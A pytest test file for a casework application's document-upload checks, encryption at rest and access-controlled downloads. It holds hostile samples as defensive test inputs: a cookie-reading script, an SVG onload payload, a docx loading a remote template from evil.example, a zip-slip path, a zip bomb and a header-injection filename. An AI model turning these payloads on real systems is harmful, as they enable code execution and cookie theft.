"""Case documents: only known kinds, checked by content; encrypted at rest; served only as
downloads, only to people who may see the case; nothing half-stored."""

from __future__ import annotations

import io
import os
import time
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.files.uploadhandler import TemporaryFileUploadHandler
from django.db import IntegrityError, connection
from django.test import Client, override_settings
from django.urls import reverse
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import DecodedStreamObject

from accord.accounts.models import User
from accord.audit.models import AuditEvent
from accord.casework import documents
from accord.casework.documents import DocumentRefused, DocumentUnavailable
from accord.casework.models import Document
from accord.casework.services import CaseworkError
from accord.casework.vocabularies import Status
from accord.policy.roles import OrgKind, Role
from accord.web import file_checks
from tests.casework.factories import canary, make_case
from tests.factories import person
from tests.security.principals import client_for

pytestmark = pytest.mark.django_db

LIMIT = 20 * 1024 * 1024


@pytest.fixture(autouse=True)
def files_dir(tmp_path: Path) -> Iterator[Path]:
    directory = tmp_path / "case-files"
    with override_settings(ACCORD_CASE_FILES_DIR=directory, ACCORD_CASE_MAX_DOCUMENT_BYTES=LIMIT):
        yield directory


def stored_files(directory: Path) -> list[Path]:
    return sorted(directory.iterdir()) if directory.exists() else []


# --- Sample files ---------------------------------------------------------------------------


def pdf_bytes(text: str = "hello") -> bytes:
    """A real one-page PDF with ``text`` on its page (kept files are rewritten by pypdf)."""
    writer = PdfWriter()
    page = writer.add_blank_page(width=200, height=200)
    content = DecodedStreamObject()
    content.set_data(f"BT 20 100 Td ({text}) Tj ET".encode())
    page.replace_contents(content)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def image_bytes(kind: str) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (4, 4), (200, 30, 30)).save(buffer, format=kind)
    return buffer.getvalue()


CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="{main}"/></Types>'
)
DOCX_MAIN = file_checks.DOCX_MAIN
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"


def docx_bytes(
    body: str = "<w:document/>",
    *,
    main: str = DOCX_MAIN,
    extra: dict[str, bytes] | None = None,
    compression: int = zipfile.ZIP_DEFLATED,
) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES.format(main=main))
        archive.writestr(
            "_rels/.rels",
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
            'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
            'officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'
            "</Relationships>",
        )
        archive.writestr("word/document.xml", body)
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return buffer.getvalue()


def odt_bytes(*, extra: dict[str, bytes] | None = None) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            zipfile.ZipInfo("mimetype"), file_checks.ODT_MIMETYPE, compress_type=zipfile.ZIP_STORED
        )
        archive.writestr("content.xml", "<office:document-content/>")
        archive.writestr("META-INF/manifest.xml", "<manifest:manifest/>")
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return buffer.getvalue()


def zip_bomb_docx() -> bytes:
    """A 'Word document' whose body unpacks to 30 MB from about 30 KB."""
    return docx_bytes("<w:document>" + "0" * (30 * 1024 * 1024) + "</w:document>")


EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 64 + b"PE\x00\x00"
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
    b"<script>alert(2)</script></svg>"
)


# --- Recognising files by their contents ------------------------------------------------------


@pytest.mark.parametrize(
    ("filename", "data", "content_type"),
    [
        ("letter.pdf", pdf_bytes(), "application/pdf"),
        ("Letter.PDF", pdf_bytes(), "application/pdf"),
        ("injury.png", image_bytes("PNG"), "image/png"),
        ("injury.jpg", image_bytes("JPEG"), "image/jpeg"),
        ("injury.jpeg", image_bytes("JPEG"), "image/jpeg"),
        ("notes.txt", "Café notes, 3 March – ok\n".encode(), "text/plain"),
        ("statement.docx", docx_bytes(), file_checks.DOCX.content_type),
        ("statement.odt", odt_bytes(), file_checks.ODT.content_type),
    ],
)
def test_allowed_kinds_are_recognised_by_content(
    filename: str, data: bytes, content_type: str
) -> None:
    assert documents.check_file(data, filename).content_type == content_type


@pytest.mark.parametrize(
    ("filename", "data", "message"),
    [
        ("empty.pdf", b"", "The file is empty"),
        ("setup.pdf", EXE, "The file ends in .pdf but it is not a real PDF"),
        ("setup.exe", EXE, "Files ending in .exe cannot be kept here"),
        ("page.html", HTML, "Files ending in .html cannot be kept here"),
        ("page.txt", HTML, "contains web page or drawing code (HTML, SVG or XML)"),
        ("drawing.svg", SVG, "Files ending in .svg cannot be kept here"),
        ("drawing.png", SVG, "contains web page or drawing code"),
        ("page.pdf", HTML, "contains web page or drawing code"),
        ("drawing.txt", SVG, "contains web page or drawing code"),
        (
            "letter.png",
            pdf_bytes(),
            "The file ends in .png but it is a PDF. Rename it to end in .pdf",
        ),
        ("photo.pdf", image_bytes("PNG"), "The file ends in .pdf but it is a PNG image"),
        ("letter", pdf_bytes(), "The file name has no ending such as .pdf"),
        ("notes.txt", "notes".encode("utf-16"), "We could not read this as plain text"),
        ("archive.docx", zip_bomb_docx(), "zip bomb"),
        ("macros.docx", docx_bytes(main=DOCM_MAIN), "contains macros"),
        (
            "macros.docx",
            docx_bytes(extra={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
            "contains macros",
        ),
        (
            "remote.docx",
            docx_bytes(
                extra={
                    "word/_rels/settings.xml.rels": (
                        b'<Relationships><Relationship Id="r1" Type="http://schemas.'
                        b"openxmlformats.org/officeDocument/2006/relationships/"
                        b'attachedTemplate" Target="https://evil.example/t.dotm" '
                        b"TargetMode='&#69;xternal'/></Relationships>"
                    )
                }
            ),
            "loads content from the internet",
        ),
        ("slip.docx", docx_bytes(extra={"../../evil.txt": b"x"}), "packed in an unusual way"),
        ("macros.odt", odt_bytes(extra={"Basic/Standard/Module1.xml": b"<x/>"}), "macros"),
        ("sheet.docx", odt_bytes(), "The file ends in .docx but it is an OpenDocument text file"),
        ("broken.docx", b"PK\x03\x04" + b"\x00" * 40, "This document is damaged"),
        (
            "polyglot.png",
            image_bytes("PNG")[:33] + b"\x00\x00\x00\x20tEXt<html><script>x()</script>",
            "contains web page or drawing code",
        ),
    ],
)
def test_refused_files_say_why(filename: str, data: bytes, message: str) -> None:
    with pytest.raises(DocumentRefused) as refused:
        documents.check_file(data, filename)
    assert message in str(refused.value)


def test_a_document_that_unpacks_too_far_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(file_checks, "MAX_UNPACKED_BYTES", 1000)
    with pytest.raises(DocumentRefused, match="unpacks to more than 1000 bytes"):
        documents.check_file(docx_bytes("<w:document>" + "a b " * 500 + "</w:document>"), "a.docx")


def test_over_the_limit_says_the_limit() -> None:
    with pytest.raises(DocumentRefused) as refused:
        documents.check_file(pdf_bytes() + b" " * 3000, "big.pdf", limit=2048)
    assert "The largest file you can upload is 2 KB" in str(refused.value)
    assert file_checks.size_label(20 * 1024 * 1024) == "20 MB"
    assert file_checks.size_label(1536 * 1024) == "1.5 MB"


# --- Storing ---------------------------------------------------------------------------------


def advocate_and_case() -> tuple[User, Any]:
    advocate = person(OrgKind.ADVISORY_SERVICE, Role.ADVOCATE)
    return advocate, make_case(advocate)


def store(case: Any, by: User, name: str, data: bytes, description: str = "") -> Document:
    return documents.store_document(None, case, SimpleUploadedFile(name, data), description, by=by)


def test_a_stored_file_holds_no_plaintext_and_round_trips(files_dir: Path) -> None:
    advocate, case = advocate_and_case()
    secret = canary("document-body")
    name, description = f"{canary('filename')}.txt", canary("description")
    document = store(case, advocate, name, f"He said: {secret}\n".encode(), description)

    (path,) = stored_files(files_dir)
    assert path.name == document.storage_name and len(path.name) == 64
    on_disk = path.read_bytes()
    assert secret.encode() not in on_disk and b"He said" not in on_disk
    assert oct(path.stat().st_mode & 0o777) == "0o600"
    with connection.cursor() as cursor:
        cursor.execute(
            "SELECT sealed_filename, sealed_description FROM casework_document WHERE id = %s",
            [document.pk],
        )
        row = cursor.fetchone()
    assert name not in " ".join(row) and description not in " ".join(row)

    fresh = Document.objects.get(pk=document.pk)
    assert fresh.filename == name and fresh.description == description
    assert fresh.content_type == "text/plain" and fresh.size == len(f"He said: {secret}\n")
    assert documents.read_document(None, case, fresh) == f"He said: {secret}\n".encode()


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("setup.pdf", EXE),
        ("page.html", HTML),
        ("drawing.svg", SVG),
        ("letter.png", pdf_bytes()),
        ("empty.txt", b""),
        ("archive.docx", zip_bomb_docx()),
    ],
)
def test_nothing_is_stored_when_a_file_is_refused(files_dir: Path, name: str, data: bytes) -> None:
    advocate, case = advocate_and_case()
    with pytest.raises(DocumentRefused):
        store(case, advocate, name, data)
    assert Document.objects.count() == 0
    assert stored_files(files_dir) == []


def test_a_file_too_big_is_refused_before_it_is_read(files_dir: Path) -> None:
    advocate, case = advocate_and_case()
    too_big = pytest.raises(DocumentRefused, match="The largest file you can upload is 1 KB")
    with override_settings(ACCORD_CASE_MAX_DOCUMENT_BYTES=1024), too_big:
        store(case, advocate, "big.pdf", pdf_bytes() + b" " * 2048)
    assert Document.objects.count() == 0 and stored_files(files_dir) == []


def test_a_failed_database_write_removes_the_file(
    files_dir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    advocate, case = advocate_and_case()

    def fail(*args: object, **kwargs: object) -> None:
        raise IntegrityError("simulated")

    monkeypatch.setattr(Document, "save", fail)
    with pytest.raises(IntegrityError):
        store(case, advocate, "letter.pdf", pdf_bytes())
    assert stored_files(files_dir) == []


def test_nothing_is_added_to_a_closed_case(files_dir: Path) -> None:
    advocate, case = advocate_and_case()
    case.status = Status.CLOSED
    with pytest.raises(CaseworkError, match="This case is closed"):
        store(case, advocate, "letter.pdf", pdf_bytes())
    assert stored_files(files_dir) == []


def test_a_tampered_missing_or_swapped_file_raises_a_clear_error(files_dir: Path) -> None:
    advocate, case = advocate_and_case()
    first = store(case, advocate, "first.pdf", pdf_bytes("first"))
    second = store(case, advocate, "second.pdf", pdf_bytes("second"))
    first_path, second_path = files_dir / first.storage_name, files_dir / second.storage_name

    # Another document's file under this document's name: the uid is bound in, so it fails.
    original = first_path.read_bytes()
    first_path.write_bytes(second_path.read_bytes())
    with pytest.raises(DocumentUnavailable, match="has been changed or damaged"):
        documents.read_document(None, case, first)

    # One character changed.
    token = bytearray(original)
    token[-5] = ord("A") if token[-5] != ord("A") else ord("B")
    first_path.write_bytes(bytes(token))
    with pytest.raises(DocumentUnavailable, match="has been changed or damaged"):
        documents.read_document(None, case, first)

    second_path.unlink()
    with pytest.raises(DocumentUnavailable, match=f"missing from storage.*{second.uid}"):
        documents.read_document(None, case, second)

    other_case = make_case(advocate)
    with pytest.raises(DocumentUnavailable, match="does not belong to this case"):
        documents.read_document(None, other_case, first)


def test_remove_files_deletes_every_file_of_one_case_only(files_dir: Path) -> None:
    advocate, case = advocate_and_case()
    other = make_case(advocate)
    store(case, advocate, "a.pdf", pdf_bytes())
    store(case, advocate, "b.txt", b"notes")
    kept = store(other, advocate, "c.pdf", pdf_bytes())
    assert documents.remove_files(case) == 2
    assert [p.name for p in stored_files(files_dir)] == [kept.storage_name]
    assert documents.remove_files(case) == 0  # an interrupted erasure can run again


def test_sweep_removes_only_old_orphans_and_temporary_files(files_dir: Path) -> None:
    advocate, case = advocate_and_case()
    kept = store(case, advocate, "a.pdf", pdf_bytes())
    orphan = files_dir / ("ab" * 32)
    orphan.write_bytes(b"v1:g1:left over")
    temporary = files_dir / f"{documents.TEMP_PREFIX}{'cd' * 32}"
    temporary.write_bytes(b"half written")
    young = files_dir / ("ef" * 32)
    young.write_bytes(b"a store in progress")
    old = time.time() - documents.SWEEP_GRACE_SECONDS - 60
    for path in (files_dir / kept.storage_name, orphan, temporary):
        os.utime(path, (old, old))
    assert sorted(documents.sweep_orphans()) == sorted([orphan.name, temporary.name])
    assert {p.name for p in stored_files(files_dir)} == {kept.storage_name, young.name}


def test_attachment_header_is_ascii_with_the_real_name_in_rfc_5987_form() -> None:
    header = documents.attachment_header('Lettre d\'"IOPC" – réponse.PDF', file_checks.PDF)
    assert header.isascii()
    assert header.startswith('attachment; filename="Lettre d__IOPC_ reponse.PDF"; ')
    assert header.endswith(
        "filename*=UTF-8''Lettre%20d%27%22IOPC%22%20%E2%80%93%20r%C3%A9ponse.PDF"
    )
    cyrillic = documents.attachment_header("отчёт.jpeg", file_checks.JPEG)
    assert cyrillic.startswith('attachment; filename="document.jpeg"; ')
    sneaky = documents.attachment_header('a";\r\nSet-Cookie: x=1.txt', file_checks.TEXT)
    assert "\r" not in sneaky and "\n" not in sneaky and sneaky.count('"') == 2


# --- Pages ------------------------------------------------------------------------------------


def upload(client: Client, case: Any, name: str, data: bytes, description: str = "") -> Any:
    return client.post(
        reverse("document_upload", args=[case.reference]),
        {"file": SimpleUploadedFile(name, data), "description": description},
    )


def test_upload_page_shows_the_allowed_kinds_and_the_limit() -> None:
    advocate, case = advocate_and_case()
    page = client_for("advocate", {"advocate": advocate}).get(
        reverse("document_upload", args=[case.reference])
    )
    body = page.content.decode()
    assert page.status_code == 200
    assert 'enctype="multipart/form-data"' in body
    assert "up to 20 MB" in body and "Word document (.docx)" in body and "PDF (.pdf)" in body
    assert "without their hidden details" in body


def test_upload_then_download_as_an_attachment_with_audit(files_dir: Path) -> None:
    advocate, case = advocate_and_case()
    client = client_for("advocate", {"advocate": advocate})
    body = b"<p>not markup, just text</p> and a canary " + canary("upload").encode()
    response = upload(client, case, "Réponse IOPC.txt", body, "Outcome letter")
    assert response.status_code == 302, response.content.decode()[:3000]
    assert response["Location"].endswith("#documents")
    document = Document.objects.get()
    assert document.created_by == advocate

    page = client.get(reverse("case_detail", args=[case.reference])).content.decode()
    download_url = reverse("document_download", args=[case.reference, document.uid])
    assert "Réponse IOPC.txt" in page and "Outcome letter" in page and download_url in page

    download = client.get(download_url)
    assert download.status_code == 200
    assert download.content == body
    assert download["Content-Type"] == "application/octet-stream"
    assert download["Content-Disposition"] == (
        "attachment; filename=\"Reponse IOPC.txt\"; filename*=UTF-8''R%C3%A9ponse%20IOPC.txt"
    )
    assert download["X-Content-Type-Options"] == "nosniff"
    assert download["Cache-Control"] == "no-store"
    assert download["Content-Security-Policy"].startswith("sandbox")
    assert "default-src 'none'" in download["Content-Security-Policy"]

    actions = list(AuditEvent.objects.values_list("action", "object_type", "object_id"))
    assert ("casework.document.add", "case", case.reference) in actions
    assert ("casework.document.download", "case", case.reference) in actions
    assert ("casework.document.read", "document", str(document.uid)) in actions


def test_a_refused_upload_shows_the_reason_and_stores_nothing(files_dir: Path) -> None:
    advocate, case = advocate_and_case()
    client = client_for("advocate", {"advocate": advocate})
    response = upload(client, case, "letter.png", pdf_bytes())
    body = response.content.decode()
    assert response.status_code == 200
    assert "There is a problem" in body
    assert "The file ends in .png but it is a PDF" in body
    assert Document.objects.count() == 0 and stored_files(files_dir) == []


def test_an_upload_over_the_limit_is_dropped_while_it_arrives(files_dir: Path) -> None:
    advocate, case = advocate_and_case()
    client = client_for("advocate", {"advocate": advocate})
    with override_settings(ACCORD_CASE_MAX_DOCUMENT_BYTES=100 * 1024):
        response = upload(client, case, "scan.pdf", pdf_bytes() + b" " * (300 * 1024))
    body = response.content.decode()
    assert response.status_code == 200
    assert "The file is bigger than 100 KB, the largest file you can upload" in body
    assert Document.objects.count() == 0 and stored_files(files_dir) == []


def test_uploads_never_go_to_a_temporary_file_on_disk(
    files_dir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Django writes uploads over 2.5 MB to a plaintext temporary file unless told not to."""

    def refuse(*args: object, **kwargs: object) -> None:
        raise AssertionError("an upload was written to a temporary file")

    monkeypatch.setattr(TemporaryFileUploadHandler, "new_file", refuse)
    advocate, case = advocate_and_case()
    client = client_for("advocate", {"advocate": advocate})
    big = pdf_bytes() + b" " * (3 * 1024 * 1024)
    response = upload(client, case, "scan.pdf", big)
    assert response.status_code == 302
    assert Document.objects.count() == 1


def test_upload_checks_csrf_after_setting_the_upload_handler() -> None:
    advocate, case = advocate_and_case()
    client = client_for("advocate", {"advocate": advocate})
    client.handler.enforce_csrf_checks = True
    response = upload(client, case, "letter.pdf", pdf_bytes())
    assert response.status_code == 403
    assert Document.objects.count() == 0


def test_download_is_404_for_anyone_who_may_not_see_it(files_dir: Path) -> None:
    advocate, case = advocate_and_case()
    document = store(case, advocate, "letter.pdf", pdf_bytes())
    own_other_case = make_case(advocate)
    colleague = person(OrgKind.ADVISORY_SERVICE, Role.ADVOCATE)
    supervisor = person(OrgKind.ADVISORY_SERVICE, Role.SUPERVISOR)
    url = reverse("document_download", args=[case.reference, document.uid])

    assert client_for("advocate", {"advocate": colleague}).get(url).status_code == 404
    assert client_for("supervisor", {"supervisor": supervisor}).get(url).status_code == 200
    mine = client_for("advocate", {"advocate": advocate})
    wrong_uid = reverse("document_download", args=[case.reference, Document().uid])
    assert mine.get(wrong_uid).status_code == 404
    wrong_case = reverse("document_download", args=[own_other_case.reference, document.uid])
    assert mine.get(wrong_case).status_code == 404
    assert mine.get(url).status_code == 200


def test_a_damaged_file_gives_a_clear_page_not_the_bytes(files_dir: Path) -> None:
    advocate, case = advocate_and_case()
    document = store(case, advocate, "letter.pdf", pdf_bytes())
    (files_dir / document.storage_name).write_bytes(b"v1:g1:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA")
    response = client_for("advocate", {"advocate": advocate}).get(
        reverse("document_download", args=[case.reference, document.uid])
    )
    assert response.status_code == 500
    body = response.content.decode()
    assert "This document cannot be opened" in body and "changed or damaged" in body
    assert "attachment" not in response.get("Content-Disposition", "")


def test_a_closed_case_takes_no_uploads_but_its_documents_still_download(
    files_dir: Path,
) -> None:
    advocate, case = advocate_and_case()
    document = store(case, advocate, "letter.pdf", pdf_bytes())
    case.status = Status.CLOSED
    case.save(update_fields=["status"])
    client = client_for("advocate", {"advocate": advocate})
    assert upload(client, case, "more.pdf", pdf_bytes()).status_code == 404
    url = reverse("document_download", args=[case.reference, document.uid])
    assert client.get(url).status_code == 200


def test_a_photo_on_a_case_is_kept_without_where_it_was_taken(files_dir: Path) -> None:
    """SECURITY.md DP-8: a location in a photo could show where the client lives."""
    from tests.web.test_file_cleaning import GPS_IFD, photo_with_gps

    advocate, case = advocate_and_case()
    document = store(case, advocate, "injury.jpg", photo_with_gps())
    kept = documents.read_document(None, case, Document.objects.get(pk=document.pk))
    with Image.open(io.BytesIO(kept)) as image:
        assert not image.getexif().get_ifd(GPS_IFD)
    assert document.size == len(kept)
